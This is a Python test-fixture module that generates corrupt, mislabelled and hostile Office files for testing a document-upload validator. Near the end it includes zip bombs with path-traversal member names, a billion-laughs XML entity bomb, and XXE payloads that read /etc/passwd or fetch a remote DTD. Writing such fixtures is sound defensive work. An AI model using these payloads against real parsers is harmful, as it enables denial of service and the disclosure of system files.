"""Factories for bad and hostile input files — for tests only.

Every ``make_*`` function writes one file (or folder) into the directory ``d`` and returns its
``Path``; none of them needs network access or fixtures from disk, and all of them are fast
(the biggest, the 50 MiB-of-zeros member, is compressed once per process and cached).

Building blocks that other tests may reuse:

* :func:`cfb_bytes` — a tiny but valid OLE2 / Compound File Binary writer (v3, 512-byte sectors,
  FAT + mini stream + directory red-black tree laid out as a sorted binary tree).
* :func:`raw_zip` — a zip writer that writes whatever sizes/CRCs/counts you declare, so lying
  central directories can be made without writing gigabytes.
* :func:`docx_bytes` / :func:`xlsx_bytes` — real files made with python-docx / openpyxl.
* :func:`rezip` — copy a package replacing, adding or dropping members.
"""

from __future__ import annotations

import functools
import io
import os
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, Mapping, Union

# ======================================================================================
# OLE2 / CFB writer
# ======================================================================================

_FREESECT = 0xFFFFFFFF
_ENDOFCHAIN = 0xFFFFFFFE
_FATSECT = 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF
_SS = 512
_MSS = 64
_CUTOFF = 4096

Tree = Mapping[str, Union[bytes, "Tree"]]


def _cfb_sort_key(name: str):
    return (len(name), name.upper())


def cfb_bytes(tree: Tree) -> bytes:
    """Write a Compound File Binary (version 3) holding ``tree``.

    ``tree`` maps names to ``bytes`` (a stream) or to another mapping (a storage).
    Streams under 4096 bytes go into the mini stream, as the spec requires.
    """
    # --- flatten the directory -----------------------------------------------------
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "data": b"", "kids": []}]

    def add(storage_idx: int, sub: Tree) -> None:
        for name, value in sub.items():
            if len(name) > 31:
                raise ValueError("CFB names are at most 31 characters")
            idx = len(entries)
            if isinstance(value, (bytes, bytearray)):
                entries.append({"name": name, "type": 2, "data": bytes(value), "kids": []})
            else:
                entries.append({"name": name, "type": 1, "data": b"", "kids": []})
                add(idx, value)
            entries[storage_idx]["kids"].append(idx)

    add(0, tree)
    for e in entries:
        e.update(left=_NOSTREAM, right=_NOSTREAM, child=_NOSTREAM, start=_ENDOFCHAIN, size=0)

    def build(kids: list[int]) -> int:  # sorted binary search tree of siblings
        if not kids:
            return _NOSTREAM
        mid = len(kids) // 2
        node = kids[mid]
        entries[node]["left"] = build(kids[:mid])
        entries[node]["right"] = build(kids[mid + 1 :])
        return node

    for e in entries:
        if e["type"] in (1, 5):
            e["child"] = build(sorted(e["kids"], key=lambda i: _cfb_sort_key(entries[i]["name"])))

    # --- mini stream -----------------------------------------------------------------
    mini = bytearray()
    minifat: list[int] = []
    for e in entries:
        if e["type"] == 2 and 0 < len(e["data"]) < _CUTOFF:
            first = len(mini) // _MSS
            n = -(-len(e["data"]) // _MSS)
            mini += e["data"] + b"\x00" * (n * _MSS - len(e["data"]))
            minifat.extend(list(range(first + 1, first + n)) + [_ENDOFCHAIN])
            e["start"], e["size"] = first, len(e["data"])

    # --- sector layout -----------------------------------------------------------------
    def nsec(nbytes: int) -> int:
        return -(-nbytes // _SS)

    dir_bytes = len(entries) * 128
    n_dir = nsec(dir_bytes)
    n_minifat = nsec(len(minifat) * 4)
    n_mini = nsec(len(mini))
    big = [e for e in entries if e["type"] == 2 and len(e["data"]) >= _CUTOFF]
    n_big = sum(nsec(len(e["data"])) for e in big)
    others = n_dir + n_minifat + n_mini + n_big
    n_fat = 1
    while n_fat * (_SS // 4) < n_fat + others:
        n_fat += 1
    if n_fat > 109:
        raise ValueError("this tiny writer does not do DIFAT sectors")

    fat = [_FREESECT] * (n_fat * (_SS // 4))
    sectors: list[bytes] = []

    def alloc(payload: bytes, count: int) -> int:
        first = len(sectors)
        for i in range(count):
            chunk = payload[i * _SS : (i + 1) * _SS]
            sectors.append(chunk + b"\x00" * (_SS - len(chunk)))
            fat[first + i] = first + i + 1 if i < count - 1 else _ENDOFCHAIN
        return first if count else _ENDOFCHAIN

    for i in range(n_fat):
        sectors.append(b"")  # filled at the end
        fat[i] = _FATSECT
    dir_start = len(sectors)
    for i in range(n_dir):
        sectors.append(b"")
        fat[dir_start + i] = dir_start + i + 1 if i < n_dir - 1 else _ENDOFCHAIN
    minifat_start = alloc(struct.pack(f"<{len(minifat)}I", *minifat) + b"\xff" * (n_minifat * _SS - len(minifat) * 4), n_minifat) if n_minifat else _ENDOFCHAIN
    if n_mini:
        entries[0]["start"] = alloc(bytes(mini), n_mini)
        entries[0]["size"] = len(mini)
    for e in big:
        e["start"] = alloc(e["data"], nsec(len(e["data"])))
        e["size"] = len(e["data"])

    # --- directory ----------------------------------------------------------------------
    raw_dir = bytearray()
    for e in entries:
        name = e["name"].encode("utf-16-le")
        raw_dir += name + b"\x00" * (64 - len(name))
        raw_dir += struct.pack("<HBB3I", len(name) + 2, e["type"], 1, e["left"], e["right"], e["child"])
        raw_dir += b"\x00" * 16 + struct.pack("<I", 0) + b"\x00" * 16
        raw_dir += struct.pack("<IQ", e["start"], e["size"])
    while len(raw_dir) < n_dir * _SS:  # unused entries
        raw_dir += b"\x00" * 64 + struct.pack("<HBB3I", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM) + b"\x00" * 52
    for i in range(n_dir):
        sectors[dir_start + i] = bytes(raw_dir[i * _SS : (i + 1) * _SS])
    for i in range(n_fat):
        sectors[i] = struct.pack(f"<{_SS // 4}I", *fat[i * (_SS // 4) : (i + 1) * (_SS // 4)])

    difat = list(range(n_fat)) + [_FREESECT] * (109 - n_fat)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack(
            "<9I",
            0,  # number of directory sectors (0 for v3)
            n_fat,
            dir_start,
            0,  # transaction signature
            _CUTOFF,
            minifat_start,
            n_minifat,
            _ENDOFCHAIN,  # first DIFAT sector
            0,
        )
        + struct.pack("<109I", *difat)
    )
    assert len(header) == 512
    return header + b"".join(sectors)


def _fib(encrypted: bool = False, size: int = 5000) -> bytes:
    """A Word 97-2003 WordDocument stream: just the FIB base, padded."""
    flags = 0x0100 if encrypted else 0
    fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0, flags)
    return fib + b"\x00" * (size - len(fib))


def _biff(encrypted: bool = False) -> bytes:
    """A tiny BIFF8 Workbook stream: BOF [FILEPASS] EOF (kept small: lives in the mini stream)."""
    bof = struct.pack("<HH", 0x0809, 16) + struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0)
    filepass = struct.pack("<HH", 0x002F, 6) + struct.pack("<HHH", 0, 1, 1) if encrypted else b""
    eof = struct.pack("<HH", 0x000A, 0)
    return bof + filepass + eof + b"\x00" * 200


_SUMMARY = {"\x05SummaryInformation": b"\xfe\xff" + b"\x00" * 110}


def make_cfb(d: Path, name: str, tree: Tree) -> Path:
    p = Path(d) / name
    p.write_bytes(cfb_bytes(tree))
    return p


def make_doc(d: Path, name: str = "旧版报告.doc", encrypted: bool = False) -> Path:
    return make_cfb(d, name, {"WordDocument": _fib(encrypted), "1Table": b"\x00" * 1200, **_SUMMARY})


def make_wps(d: Path, name: str = "旧版报告.wps") -> Path:
    """Kingsoft WPS 文字 binary: Word-97-compatible streams, told apart by the extension."""
    return make_cfb(d, name, {"WordDocument": _fib(), "1Table": b"\x00" * 800, **_SUMMARY})


def make_works_wps(d: Path, name: str = "works.wps") -> Path:
    """Microsoft Works .wps (CONTENTS/MatOST streams)."""
    return make_cfb(d, name, {"CONTENTS": b"\x00" * 5000, "MatOST": b"\x00" * 300, "SPELLING": b"\x00" * 50})


def make_xls(d: Path, name: str = "旧版报表.xls", encrypted: bool = False) -> Path:
    return make_cfb(d, name, {"Workbook": _biff(encrypted), **_SUMMARY})


def make_et(d: Path, name: str = "统计表.et") -> Path:
    return make_cfb(d, name, {"Workbook": _biff(), **_SUMMARY})


def make_ppt(d: Path, name: str = "汇报.ppt") -> Path:
    return make_cfb(d, name, {"PowerPoint Document": b"\x00" * 6000, "Current User": b"\x00" * 60})


def make_encrypted_ooxml(d: Path, name: str = "加密报告.docx") -> Path:
    """What Word writes for a password-protected .docx: an OLE2 file with EncryptionInfo/EncryptedPackage."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<?xml version=\"1.0\"?><encryption/>" + b"\x00" * 100
    return make_cfb(
        d,
        name,
        {
            "\x06DataSpaces": {
                "Version": b"\x3c\x00\x00\x00" + "Microsoft.Container.DataSpaces".encode("utf-16-le") + b"\x01\x00" * 6,
                "DataSpaceMap": b"\x08\x00\x00\x00\x01\x00\x00\x00" + b"\x00" * 100,
            },
            "EncryptionInfo": info,
            "EncryptedPackage": struct.pack("<Q", 9000) + os.urandom(9008),
        },
    )


def make_unknown_cfb(d: Path, name: str = "未知.doc") -> Path:
    """A valid CFB with no stream we know: the message falls back on the extension."""
    return make_cfb(d, name, {"Something": b"\x00" * 100})


def make_broken_cfb(d: Path, name: str = "坏的.xls") -> Path:
    """OLE2 magic, garbage after it: the directory can't be parsed → fall back on the extension."""
    p = Path(d) / name
    p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600)
    return p


def make_cyclic_cfb(d: Path, name: str = "环.doc", what: str = "chain") -> Path:
    """A CFB that loops: ``what="chain"`` makes the directory's FAT chain point at itself,
    ``what="tree"`` makes every directory entry's left/right/child point back at the root and
    at each other. Either must neither hang nor crash."""
    data = bytearray(cfb_bytes({"WordDocument": _fib(), **_SUMMARY}))
    (dir_start,) = struct.unpack_from("<I", data, 0x30)
    if what == "chain":
        fat_off = 512  # sector 0 is the FAT
        struct.pack_into("<I", data, fat_off + 4 * dir_start, dir_start)
    else:
        root_off = 512 * (dir_start + 1)
        for i in range(4):
            struct.pack_into("<3I", data, root_off + 128 * i + 0x44, (i + 1) % 4, i, 0)
    p = Path(d) / name
    p.write_bytes(bytes(data))
    return p


# ======================================================================================
# Raw zip writer (declare whatever you like)
# ======================================================================================


@dataclass
class RawMember:
    name: str
    payload: bytes  # what is stored in the file (already compressed for method 8)
    method: int = 8
    crc: int = 0
    file_size: int = 0  # declared uncompressed size
    compress_size: int | None = None  # declared compressed size (default: len(payload))
    flags: int = 0


def raw_deflate(data: bytes, level: int = 9) -> bytes:
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def member(name: str, data: bytes, *, method: int = 8, declared_size: int | None = None, crc: int | None = None) -> RawMember:
    payload = raw_deflate(data) if method == 8 else data
    return RawMember(
        name=name,
        payload=payload,
        method=method,
        crc=zlib.crc32(data) if crc is None else crc,
        file_size=len(data) if declared_size is None else declared_size,
    )


def raw_zip(members: Iterable[RawMember], *, eocd_count: int | None = None) -> bytes:
    out = bytearray()
    central = bytearray()
    count = 0
    for m in members:
        name = m.name.encode("utf-8")
        flags = m.flags | (0x800 if not m.name.isascii() else 0)
        csize = len(m.payload) if m.compress_size is None else m.compress_size
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, m.method, 0, 0x21, m.crc, csize, m.file_size, len(name), 0)
        out += name + m.payload
        central += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, m.method, 0, 0x21, m.crc, csize, m.file_size, len(name), 0, 0, 0, 0, 0, offset
        )
        central += name
        count += 1
    cd_offset = len(out)
    out += central
    n = count if eocd_count is None else eocd_count
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(n, 0xFFFF), min(n, 0xFFFF), len(central), cd_offset, 0)
    return bytes(out)


@functools.lru_cache(maxsize=4)
def zeros_deflated(n: int) -> bytes:
    """Raw deflate of ``n`` zero bytes, made in 1 MiB steps (50 MiB → ~50 KB in ~0.15 s)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    parts = []
    left = n
    while left > 0:
        step = min(left, len(chunk))
        parts.append(c.compress(chunk[:step]))
        left -= step
    parts.append(c.flush())
    return b"".join(parts)


@functools.lru_cache(maxsize=4)
def zeros_crc(n: int) -> int:
    crc, chunk, left = 0, bytes(1 << 20), n
    while left > 0:
        step = min(left, len(chunk))
        crc = zlib.crc32(chunk[:step], crc)
        left -= step
    return crc


# ======================================================================================
# Real packages and rewriting them
# ======================================================================================


@functools.lru_cache(maxsize=1)
def docx_bytes() -> bytes:
    import docx  # python-docx

    doc = docx.Document()
    doc.add_heading("某某县人民政府2023年政府信息公开工作年度报告", level=1)
    doc.add_paragraph("一、总体情况")
    doc.add_paragraph("2023年，某某县人民政府认真贯彻落实《中华人民共和国政府信息公开条例》。")
    table = doc.add_table(rows=2, cols=3)
    table.cell(0, 0).text = "信息内容"
    table.cell(1, 0).text = "规章"
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


@functools.lru_cache(maxsize=1)
def xlsx_bytes() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "主动公开"
    ws["A1"] = "信息内容"
    ws["B1"] = "本年制发件数"
    ws["A2"] = "规章"
    ws["B2"] = 3
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rezip(
    data: bytes,
    *,
    replace: Mapping[str, bytes] | None = None,
    drop: Iterable[str] = (),
    add: Mapping[str, bytes] | None = None,
    rename: Mapping[str, str] | None = None,
) -> bytes:
    """Copy a zip, replacing/dropping/adding/renaming members (normal deflate)."""
    replace, add, rename, drop = dict(replace or {}), dict(add or {}), dict(rename or {}), set(drop)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for name, content in members_of(data).items():
            if name in drop:
                continue
            content = replace.get(name, content)
            out.writestr(rename.get(name, name), content)
        for name, content in add.items():
            out.writestr(name, content)
    return buf.getvalue()


def _write(d: Path, name: str, data: bytes) -> Path:
    p = Path(d) / name
    p.write_bytes(data)
    return p


def make_docx(d: Path, name: str = "年度报告.docx") -> Path:
    return _write(d, name, docx_bytes())


def make_xlsx(d: Path, name: str = "年度报表.xlsx") -> Path:
    return _write(d, name, xlsx_bytes())


_CT = "[Content_Types].xml"
_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _docx_with_main_ct(new_ct: str) -> bytes:
    ct = members_of(docx_bytes())[_CT].decode("utf-8")
    assert _WORD_MAIN in ct
    return rezip(docx_bytes(), replace={_CT: ct.replace(_WORD_MAIN, new_ct).encode("utf-8")})


def make_docm(d: Path, name: str = "宏报告.docm") -> Path:
    return _write(d, name, _docx_with_main_ct("application/vnd.ms-word.document.macroEnabled.main+xml"))


def make_dotx(d: Path, name: str = "模板.dotx") -> Path:
    return _write(d, name, _docx_with_main_ct("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"))


def make_xlsm(d: Path, name: str = "宏报表.xlsm") -> Path:
    xl_main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    ct = members_of(xlsx_bytes())[_CT].decode("utf-8")
    assert xl_main in ct
    return _write(
        d, name, rezip(xlsx_bytes(), replace={_CT: ct.replace(xl_main, "application/vnd.ms-excel.sheet.macroEnabled.main+xml").encode()})
    )


def make_xlsx_renamed_docx(d: Path, name: str = "其实是表格.docx") -> Path:
    return _write(d, name, xlsx_bytes())


def make_docx_renamed_xlsx(d: Path, name: str = "其实是文档.xlsx") -> Path:
    return _write(d, name, docx_bytes())


def make_docx_odd_extension(d: Path, name: str = "年度报告.docx.tmp") -> Path:
    return _write(d, name, docx_bytes())


def make_wps_style_docx(d: Path, name: str = "WPS生成.docx") -> Path:
    """Main part at word/document2.xml (as WPS and some generators write it)."""
    m = members_of(docx_bytes())
    ct = m[_CT].decode().replace("/word/document.xml", "/word/document2.xml")
    rels = m["_rels/.rels"].decode().replace("word/document.xml", "word/document2.xml")
    data = rezip(docx_bytes(), rename={"word/document.xml": "word/document2.xml"}, replace={_CT: ct.encode(), "_rels/.rels": rels.encode()})
    return _write(d, name, data)


def make_generic_content_type_docx(d: Path, name: str = "内容类型宽松.docx") -> Path:
    """The main part has no Override and the xml Default is application/xml: read as docx by path."""
    ct = members_of(docx_bytes())[_CT].decode()
    ct = ct.replace(f'<Override PartName="/word/document.xml" ContentType="{_WORD_MAIN}"/>', "")
    assert "/word/document.xml" not in ct
    return _write(d, name, rezip(docx_bytes(), replace={_CT: ct.encode()}))


def make_wrong_content_types(d: Path, name: str = "类型错误.docx") -> Path:
    """The main part is declared as a styles part."""
    return _write(d, name, _docx_with_main_ct("application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"))


def make_pptx(d: Path, name: str = "汇报.pptx") -> Path:
    ct = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/ppt/presentation.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="ppt/presentation.xml"/></Relationships>'
    )
    pres = '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(_CT, ct)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("ppt/presentation.xml", pres)
    return _write(d, name, buf.getvalue())


def make_odt(d: Path, name: str = "报告.odt") -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>')
        zf.writestr("META-INF/manifest.xml", "<manifest/>")
    return _write(d, name, buf.getvalue())


def make_photo_zip(d: Path, name: str = "照片.docx") -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(3):
            zf.writestr(f"照片/IMG_{i:04d}.jpg", b"\xff\xd8\xff\xe0" + os.urandom(2000))
    return _write(d, name, buf.getvalue())


def make_empty_zip(d: Path, name: str = "空压缩包.docx") -> Path:
    buf = io.BytesIO()
    zipfile.ZipFile(buf, "w").close()
    return _write(d, name, buf.getvalue())


def make_zip_without_document(d: Path, name: str = "缺正文.docx") -> Path:
    return _write(d, name, rezip(docx_bytes(), drop=["word/document.xml"]))


def make_zip_without_content_types(d: Path, name: str = "缺类型.docx") -> Path:
    return _write(d, name, rezip(docx_bytes(), drop=[_CT]))


def make_zip_without_rels(d: Path, name: str = "缺关系.docx") -> Path:
    """No _rels/.rels: the main part is found through the content types instead (accepted)."""
    return _write(d, name, rezip(docx_bytes(), drop=["_rels/.rels"]))


def make_malformed_document_xml(d: Path, name: str = "正文损坏.docx") -> Path:
    doc = members_of(docx_bytes())["word/document.xml"]
    return _write(d, name, rezip(docx_bytes(), replace={"word/document.xml": doc[: len(doc) // 2]}))


def make_malformed_content_types(d: Path, name: str = "类型表损坏.docx") -> Path:
    return _write(d, name, rezip(docx_bytes(), replace={_CT: b"<Types><Default Extension='xml'"}))


def make_truncated_docx(d: Path, name: str = "截断.docx") -> Path:
    data = docx_bytes()
    return _write(d, name, data[: len(data) // 2])


def make_crc_mismatch(d: Path, name: str = "校验错误.docx") -> Path:
    """document.xml's CRC in both headers is wrong (a flipped bit somewhere on the disk)."""
    m = members_of(docx_bytes())
    members = [member(n, c, crc=(zlib.crc32(c) ^ 0x1) if n == "word/document.xml" else None) for n, c in m.items()]
    return _write(d, name, raw_zip(members))


def make_zip_encrypted_member(d: Path, name: str = "压缩密码.docx") -> Path:
    m = members_of(docx_bytes())
    members = [member(n, c) for n, c in m.items()]
    for x in members:
        x.flags |= 0x1
    return _write(d, name, raw_zip(members))


# ---- text-ish and other non-zip files ---------------------------------------------------


def make_pdf(d: Path, name: str = "年度报告.docx") -> Path:
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + os.urandom(500) + b"\n%%EOF\n"
    return _write(d, name, body)


def make_text(d: Path, name: str = "年度报告.docx", encoding: str = "utf-8") -> Path:
    text = "某某县人民政府2023年政府信息公开工作年度报告\r\n一、总体情况\r\n" * 20
    return _write(d, name, text.encode(encoding))


def make_rtf(d: Path, name: str = "年度报告.docx") -> Path:
    return _write(d, name, rb"{\rtf1\ansi\ansicpg936\deff0{\fonttbl{\f0\fnil\fcharset134 \'cb\'ce\'cc\'e5;}}\f0\fs24 \'b1\'a8\'b8\'e6\par}")


def make_html(d: Path, name: str = "年度报告.docx") -> Path:
    return _write(
        d, name, "<!DOCTYPE html>\n<html><head><meta charset='utf-8'><title>年度报告</title></head><body><p>一、总体情况</p></body></html>".encode()
    )


def make_word_web_page_doc(d: Path, name: str = "网页版.doc") -> Path:
    """Word's 'Save as Web Page' kept with a .doc name (Windows-1252/GBK HTML with Office namespaces)."""
    html = (
        "\ufeff<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
        "xmlns:w=\"urn:schemas-microsoft-com:office:word\" xmlns=\"http://www.w3.org/TR/REC-html40\">\r\n"
        "<head><meta http-equiv=Content-Type content=\"text/html; charset=gb2312\"><meta name=ProgId content=Word.Document>"
        "</head><body lang=ZH-CN><p class=MsoNormal>一、总体情况</p></body></html>"
    )
    return _write(d, name, html.encode("utf-8"))


def make_excel_web_page_xls(d: Path, name: str = "网页版.xls") -> Path:
    html = (
        "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\">"
        "<head><meta name=ProgId content=Excel.Sheet></head><body><table><tr><td>规章</td></tr></table></body></html>"
    )
    return _write(d, name, html.encode("gbk"))


def make_mht(d: Path, name: str = "单个网页.doc") -> Path:
    body = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01D9\"\r\n\r\n"
        "------=_NextPart_01D9\r\nContent-Type: text/html; charset=\"gb2312\"\r\n\r\n<html><body>报告</body></html>\r\n"
    )
    return _write(d, name, body.encode("ascii", "ignore"))


def make_word2003_xml(d: Path, name: str = "报告.xml.docx") -> Path:
    xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n'
        '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body/></w:wordDocument>'
    )
    return _write(d, name, xml.encode())


def make_png(d: Path, name: str = "截图.docx") -> Path:
    return _write(d, name, b"\x89PNG\r\n\x1a\n" + os.urandom(300))


def make_random_binary(d: Path, name: str = "乱码.docx") -> Path:
    return _write(d, name, b"\x00\x01\x02\x03" + os.urandom(4000))


def make_empty(d: Path, name: str = "空文件.docx") -> Path:
    return _write(d, name, b"")


def make_folder(d: Path, name: str = "报告文件夹.docx") -> Path:
    p = Path(d) / name
    p.mkdir()
    return p


def missing_path(d: Path, name: str = "不存在的报告.docx") -> Path:
    return Path(d) / name


def make_sparse_huge(d: Path, name: str = "超大.docx", size: int = 101 * 1024 * 1024) -> Path:
    """A sparse file over the default 100 MiB limit (takes no disk space, needs no writing)."""
    p = Path(d) / name
    with open(p, "wb") as f:
        f.truncate(size)
    return p


def make_fifo(d: Path, name: str = "管道.docx") -> Path:
    p = Path(d) / name
    os.mkfifo(p)
    return p


# ---- zip bombs ------------------------------------------------------------------------

GiB = 1 << 30
MiB = 1 << 20


def _docx_raw_members() -> list[RawMember]:
    return [member(n, c) for n, c in members_of(docx_bytes()).items()]


def make_bomb_declared_huge(d: Path, name: str = "炸弹_声明1G.docx") -> Path:
    """(a) a docx plus one member that *declares* 1 GiB (nothing of the sort is written) and a
    real high-ratio member of 50 MiB of zeros (~50 KB compressed)."""
    members = _docx_raw_members()
    members.append(RawMember("word/media/huge.bin", raw_deflate(b"\x00" * 1024), crc=0, file_size=GiB))
    members.append(RawMember("word/media/zeros.bin", zeros_deflated(50 * MiB), crc=zeros_crc(50 * MiB), file_size=50 * MiB))
    return _write(d, name, raw_zip(members))


def make_bomb_high_ratio(d: Path, name: str = "炸弹_高压缩比.docx") -> Path:
    """Only the real 50 MiB-of-zeros member (ratio ~1000:1) inside an otherwise valid docx."""
    members = _docx_raw_members()
    members.append(RawMember("word/media/zeros.bin", zeros_deflated(50 * MiB), crc=zeros_crc(50 * MiB), file_size=50 * MiB))
    return _write(d, name, raw_zip(members))


def make_bomb_total(d: Path, name: str = "炸弹_总量.docx") -> Path:
    """Three members each declaring 190 MiB (each under the per-member limit, 570 MiB together)."""
    members = _docx_raw_members()
    for i in range(3):
        members.append(RawMember(f"word/media/part{i}.bin", os.urandom(1 << 20), method=0, crc=0, file_size=190 * MiB, compress_size=1 << 20))
    return _write(d, name, raw_zip(members))


def make_bomb_many_members(d: Path, name: str = "炸弹_十万文件.docx", n: int = 100_000) -> Path:
    """(b) a docx plus ``n`` tiny stored members (absolute and '..' names among them)."""
    members = _docx_raw_members()
    for i in range(n):
        nm = f"../../x/{i}" if i % 3 == 0 else (f"/abs/{i}" if i % 3 == 1 else f"word/m/{i}")
        members.append(RawMember(nm, b"", method=0, crc=0, file_size=0))
    return _write(d, name, raw_zip(members))


def make_bomb_many_members_lying_count(d: Path, name: str = "炸弹_计数说谎.docx", n: int = 20_000) -> Path:
    """Like (b) but the end record claims 9 entries: the central directory itself must be bounded."""
    members = _docx_raw_members()
    members += [RawMember(f"m/{i}", b"", method=0, crc=0, file_size=0) for i in range(n)]
    return _write(d, name, raw_zip(members, eocd_count=9))


def make_bomb_lying_size(d: Path, name: str = "炸弹_尺寸说谎.docx", actual: int = 50 * MiB) -> Path:
    """(c) word/document.xml declares 4 KiB but inflates to ``actual`` bytes of zeros."""
    members = []
    for m in _docx_raw_members():
        if m.name == "word/document.xml":
            m = RawMember(m.name, zeros_deflated(actual), crc=zeros_crc(actual), file_size=4096)
        members.append(m)
    return _write(d, name, raw_zip(members))


# ---- XML attacks -------------------------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    )
    + b']>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)

XXE_FILE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)

XXE_HTTP = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote; ]>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
)


def make_xml_attack(d: Path, name: str, payload: bytes, part: str = "word/document.xml") -> Path:
    return _write(d, name, rezip(docx_bytes(), replace={part: payload}))


def make_billion_laughs(d: Path, name: str = "实体炸弹.docx", part: str = "word/document.xml") -> Path:
    return make_xml_attack(d, name, BILLION_LAUGHS, part)


def make_xxe_file(d: Path, name: str = "外部实体_文件.docx") -> Path:
    return make_xml_attack(d, name, XXE_FILE)


def make_xxe_http(d: Path, name: str = "外部实体_网络.docx") -> Path:
    return make_xml_attack(d, name, XXE_HTTP)
